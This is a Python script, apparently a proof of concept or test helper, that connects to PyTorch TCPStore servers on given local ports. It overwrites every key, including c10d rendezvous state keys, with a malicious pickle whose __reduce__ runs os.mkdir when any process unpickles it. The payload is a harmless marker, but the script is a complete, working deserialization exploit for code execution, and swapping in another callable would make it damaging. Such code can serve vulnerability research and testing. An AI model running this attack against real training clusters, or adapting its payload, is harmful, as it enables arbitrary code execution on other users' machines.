"""Another user of the network: puts code into every key of every TCPStore that answers.

Run: ``python rendezvous_attacker.py FOLDER PORT...``. The code, a pickle, creates FOLDER in the process that loads it.
The script prints as JSON how many keys each store had.
"""

from __future__ import annotations

import base64
import json
import multiprocessing
import os
import pickle
import sys
from datetime import timedelta
from multiprocessing.connection import Connection

from torch.distributed import TCPStore  # type: ignore[attr-defined]

STORE_S = 20.0
FORK = multiprocessing.get_context("fork")


class Payload:
    """An object that creates a folder when it is unpickled."""

    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.folder,)


def attack(folder: str, port: int, count: Connection) -> None:
    """Set every key of the store at ``port``, and send the number of keys."""
    store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=STORE_S))
    keys = store.list_keys()
    code = pickle.dumps(Payload(folder))
    for key in {*keys, "torch.rendezvous.none"}:
        # torch's c10d rendezvous writes its pickled state in base64.
        is_state = key.startswith("torch.rendezvous.") and "/" not in key
        store.set(key, base64.b64encode(code) if is_state else code)
    count.send(len(keys))


def main() -> None:
    """Attack each port in a process of its own: a program that is no store would hang the client of a store."""
    folder, ports = sys.argv[1], sys.argv[2:]
    counts = {}
    for port in ports:
        counted, count = FORK.Pipe(duplex=False)
        process = FORK.Process(target=attack, args=(folder, int(port), count))
        process.start()
        count.close()
        process.join(2 * STORE_S)
        process.kill()
        process.join()
        if process.exitcode == 0:
            counts[port] = counted.recv()
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
